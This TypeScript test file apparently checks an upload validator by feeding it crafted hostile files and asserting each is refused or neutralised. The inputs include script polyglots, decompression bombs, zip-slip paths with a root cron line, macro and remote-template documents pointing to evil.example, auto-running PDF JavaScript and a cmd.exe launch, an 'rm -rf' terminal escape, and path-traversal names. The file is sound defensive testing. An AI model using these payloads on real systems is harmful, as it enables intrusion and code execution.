import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { makeDocx, makePdf, makeZip, packedStream } from '../../../test/crafted-files.ts'
import { fc } from '../../../test/property.ts'
import { type Character, openWorld, type World } from '../../../test/world.ts'
import { paths } from '../paths.ts'
import { makeSafe } from './checking-files.ts'
import { listEvidence } from './evidence.ts'

/** Files as an attacker would send them: each is refused with a reason, or kept as something harmless. */

let world: World
let amara: Character
let picture: Buffer

before(async () => {
  world = await openWorld()
  await world.add({ name: 'Ben Hughes', standing: 'leader', team: 'Northgate' })
  amara = await world.add({ name: 'Amara Okafor', team: 'Northgate', leader: 'Ben Hughes' })
  picture = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#284' } })
    .png()
    .toBuffer()
})

const STORY = 'The letter that I wrote after the call.'
const send = (name: string, content: string | Buffer) =>
  amara.session.post(paths.evidence(amara.personId), {
    text: STORY,
    kind: 'work product',
    file: new File([new Uint8Array(Buffer.from(content))], name),
  })
const items = () => world.inOrg((tx) => listEvidence(tx, amara.personId))

/** Sends a file that is refused: why is on the page, what was typed still is too, and nothing was kept. */
async function refuses(name: string, content: string | Buffer, why: RegExp): Promise<void> {
  const count = (await items()).length
  const answer = await send(name, content)
  assert.equal(answer.status, 422, name)
  assert.match(answer.text, why)
  assert.match(answer.text, /is not attached\./)
  assert.match(answer.html, new RegExp(`>${STORY}</textarea>`))
  assert.match(answer.html, /value="work product"[^>]* checked/)
  assert.doesNotMatch(answer.html, /name="held-hash" value="[0-9a-f]+/)
  assert.equal((await items()).length, count)
}

/** Sends a file that is kept, and answers what is given to whoever opens it. */
async function keeps(name: string, content: string | Buffer) {
  const saved = await send(name, content)
  assert.equal(saved.status, 200, saved.text.slice(0, 2000))
  const [item] = await items()
  const [file] = item?.files ?? []
  assert.ok(item && file)
  const path = paths.evidenceFile(amara.personId, item.evidenceId, file.fileId)
  const served = await amara.session.get(path)
  assert.match(served.headers.get('content-disposition') ?? '', /^attachment; filename="[\w.-]+"$/)
  assert.equal(served.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(served.headers.get('content-type'), file.type)
  const bytes = Buffer.from((await world.house.files.read(world.orgId, file.hash)) ?? [])
  return { ...file, bytes }
}

test('1. a drawing that is also a script keeps its pixels alone', async () => {
  const gif = await sharp(picture).gif().toBuffer()
  const polyglot = Buffer.concat([gif, Buffer.from('*/=1;alert("owned")//')])
  const kept = await keeps('kitten.gif', polyglot)
  assert.equal(kept.type, 'image/png')
  assert.equal(kept.name, 'kitten.png')
  assert.equal(kept.bytes.includes('alert'), false)
})

test('2. a PDF with an archive behind it', async () => {
  const zip = makeZip([{ name: 'a.exe', content: 'MZ' }])
  await refuses('letter.pdf', Buffer.concat([makePdf('Dear customer'), zip]), /two files in one/)
})

test('3. a small picture that claims 60,000 by 60,000 pixels', async () => {
  const bomb = Buffer.from(picture)
  bomb.writeUInt32BE(60_000, 16)
  bomb.writeUInt32BE(60_000, 20)
  bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29)
  await refuses('photo.png', bomb, /more than 50 million pixels/)
})

test('4. a picture cut off in the middle', async () => {
  const noisy = await sharp({
    create: {
      width: 300,
      height: 300,
      channels: 3,
      background: '#fff',
      noise: { type: 'gaussian', mean: 120, sigma: 40 },
    },
  })
    .png()
    .toBuffer()
  await refuses('photo.png', noisy.subarray(0, noisy.length / 2), /cannot be read to its end/)
})

test('5. a letter that swells to a thousand times its size', async () => {
  await refuses(
    'letter.docx',
    makeDocx('Dear customer', [{ name: 'word/media/image1.bmp', content: Buffer.alloc(30_000_000) }]),
    /swells to many times its size/,
  )
})

test('6. a letter that swells and says that it does not', async () => {
  const liar = { name: 'word/media/image1.bmp', content: Buffer.alloc(3_000_000), claims: 10 }
  await refuses('letter.docx', makeDocx('Dear customer', [liar]), /cannot be opened/)
})

test('7. an archive within a letter', async () => {
  const inner = makeZip([{ name: 'b', content: Buffer.alloc(1000) }])
  await refuses(
    'letter.docx',
    makeDocx('Dear customer', [{ name: 'word/media/image1.png', content: inner }]),
    /Another file is hidden in it/,
  )
})

test('8. an archive whose parts lie in one another', async () => {
  const parts = [
    { name: 'word/media/a.bmp', content: 'x'.repeat(100) },
    { name: 'word/media/b.bmp', content: 'x'.repeat(100), inPlaceOf: 3 },
  ]
  await refuses('letter.docx', makeDocx('Dear customer', parts), /Another file is hidden in it/)
})

test('9. an archive with a part that would be written outside its folder', async () => {
  await refuses(
    'letter.docx',
    makeDocx('Dear customer', [{ name: '../../../etc/cron.d/job', content: '* * * * * root sh' }]),
    /cannot be opened/,
  )
})

test('10. an archive of a program, called a letter', async () => {
  await refuses('letter.docx', makeZip([{ name: 'setup.exe', content: 'MZ' }]), /archives are not kept/)
})

test('11. a letter with macros', async () => {
  await refuses(
    'letter.docm',
    makeDocx('Dear customer', [{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]),
    /holds macros/,
  )
})

test('12. a letter that fetches its template from elsewhere', async () => {
  const rels =
    '<Relationships><Relationship Id="r1" Type="http://x.example/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  await refuses(
    'letter.docx',
    makeDocx('Dear customer', [{ name: 'word/_rels/settings.xml.rels', content: rels }]),
    /loads something from elsewhere/,
  )
})

test('13. a drawing with a script in it', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
  await refuses('drawing.svg', svg, /can hold a program/)
})

test('14. the same drawing, called a picture', async () => {
  await refuses('drawing.png', '<svg onload="alert(1)"/>', /can hold a program/)
})

test('15. a page, called a text', async () => {
  await refuses('notes.txt', 'Notes\n<!DOCTYPE html><script>alert(1)</script>', /can hold a program/)
})

test('16. a program for Windows with two endings', async () => {
  await refuses('invoice.pdf.exe', 'MZ\x90\0\x03\0\0\0\x04\0', /of a kind that is not kept/)
})

test('17. a program for Linux', async () => {
  await refuses('photo', '\x7fELF\x02\x01\x01\0\0\0', /of a kind that is not kept/)
})

test('18. pictures of kinds that few programs open safely', async () => {
  await refuses('scan.tiff', Buffer.from('II*\0\x08\0\0\0', 'latin1'), /TIFF/)
  await refuses('icon.ico', Buffer.from('\0\0\x01\0\x01\0\x10\x10', 'latin1'), /of a kind that is not kept/)
})

test('19. words that would take hold of a terminal', async () => {
  await refuses('notes.txt', 'Notes \x1b]0;rm -rf\x07', /of a kind that is not kept/)
})

test('20. a PDF that runs a program by itself, also where that is written in another way', async () => {
  for (const catalog of [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
  ])
    await refuses('letter.pdf', makePdf('Dear customer', { catalog }), /a program that runs by itself/)
  const hidden = packedStream('/Type /ObjStm /N 1 /First 4', '9 0 << /S /JavaScript /JS (app.alert) >>')
  await refuses(
    'letter.pdf',
    makePdf('Dear customer', { objects: [hidden] }),
    /a program that runs by itself/,
  )
})

test('21. a PDF that starts another program', async () => {
  const catalog = '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'
  await refuses('letter.pdf', makePdf('Dear customer', { catalog }), /a program that runs by itself/)
})

test('22. a PDF with another file in it', async () => {
  const catalog = '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>'
  const file = '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>'
  const objects = [file, packedStream('/Type /EmbeddedFile', 'MZ')]
  await refuses(
    'letter.pdf',
    makePdf('Dear customer', { catalog, objects }),
    /Other files are packed into it/,
  )
})

test('23. a PDF behind a password', async () => {
  const trailer = '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -44 >> /ID [(a) (a)] '
  await refuses(
    'letter.pdf',
    makePdf('Dear customer', { trailer }),
    /locked with a password.*Print it to a new PDF/,
  )
})

test('24. a PDF that swells to a thousand times its size', async () => {
  const objects = [packedStream('', Buffer.alloc(120_000_000))]
  await refuses('letter.pdf', makePdf('Dear customer', { objects }), /swells to many times its size/)
})

test('25. a PDF that says it is one and is none', async () => {
  await refuses('letter.pdf', '%PDF-1.7\nnothing of the kind\n%%EOF', /cannot be read as a PDF/)
})

test('26. a file of 21 MB, and an empty one', async () => {
  await refuses(
    'scan.pdf',
    Buffer.alloc(21 * 1024 * 1024, '%PDF-'),
    /It has 21 MB\. Files of up to 20 MB are kept/,
  )
  await refuses('notes.txt', '', /It is empty/)
})

test('27. names that lead elsewhere, name a device, turn around, end early or never end', async () => {
  const names: [string, string][] = [
    ['../../etc/passwd', 'passwd.txt'],
    ['C:\\Windows\\System32\\notes.txt', 'notes.txt'],
    ['CON.txt', 'file-CON.txt'],
    ['aux', 'file-aux.txt'],
    ['invoice\u202etxt.exe', 'invoicetxt.exe.txt'],
    ['notes.txt\u0000.exe', 'notes.txt.exe.txt'],
    [`${'n'.repeat(10_000)}.txt`, `${'n'.repeat(95)}.txt`],
    ['"><script>alert(1)</script>.txt', 'script.txt'],
  ]
  for (const [index, [name, safe]] of names.entries())
    assert.equal((await keeps(name, `Notes, the ${index}th of them.`)).name, safe)
})

test('28. the virus scanners’ test file is kept as the words it is: there is no virus scanner here', async () => {
  const eicar = ['X5O!P%@AP[4', 'PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('\\')
  const kept = await keeps('eicar.com', eicar)
  assert.equal(kept.name, 'eicar.com.txt')
  assert.equal(kept.type, 'text/plain; charset=utf-8')
})

test('29. a picture with a page written behind its end, and in its comments', async () => {
  const page = '<html><script>alert(1)</script>'
  const comment = Buffer.concat([Buffer.from('tEXtComment\0'), Buffer.from(page)])
  const length = Buffer.alloc(8)
  length.writeUInt32BE(comment.length - 4, 0)
  length.writeUInt32BE(crc32(comment), 4)
  const withComment = Buffer.concat([
    picture.subarray(0, 33),
    length.subarray(0, 4),
    comment,
    length.subarray(4),
    picture.subarray(33),
    deflateSync(page),
    Buffer.from(page),
  ])
  const kept = await keeps('photo.png', withComment)
  assert.equal(kept.bytes.includes('script'), false)
})

test('whatever bytes come, a file is refused in words or kept as one of a few kinds', async () => {
  const film = Buffer.concat([Buffer.from('\0\0\0\x10ftypisom\0\0\0\0', 'latin1'), Buffer.alloc(40)])
  const whole = [picture, makeDocx('Dear customer'), film, Buffer.from('Notes of a call.')]
  const broken = fc.record({
    from: fc.constantFrom(...whole),
    cut: fc.integer({ min: 0, max: 400 }),
    at: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }),
  })
  await fc.assert(
    fc.asyncProperty(broken, fc.string({ unit: 'binary' }), async ({ from, cut, at }, name) => {
      const bytes = Buffer.from(from.subarray(0, Math.max(1, from.length - cut)))
      for (const [place, value] of at) bytes[place % bytes.length] = value
      const safe = await makeSafe({ name, bytes })
      if (!safe.ok) return assert.match(safe.refusals[0]?.message ?? '', /^“.+” is not attached\. .+\.$/su)
      assert.match(
        safe.value.type,
        /^(image\/(png|jpeg|webp)|(audio|video)\/[\w-]+|text\/plain; charset=utf-8|application\/(pdf|vnd\.[\w.-]+))$/,
      )
      assert.match(safe.value.name, /^[^/\\\p{C}]+\.\w{3,4}$/u)
    }),
    { numRuns: 150 },
  )
})
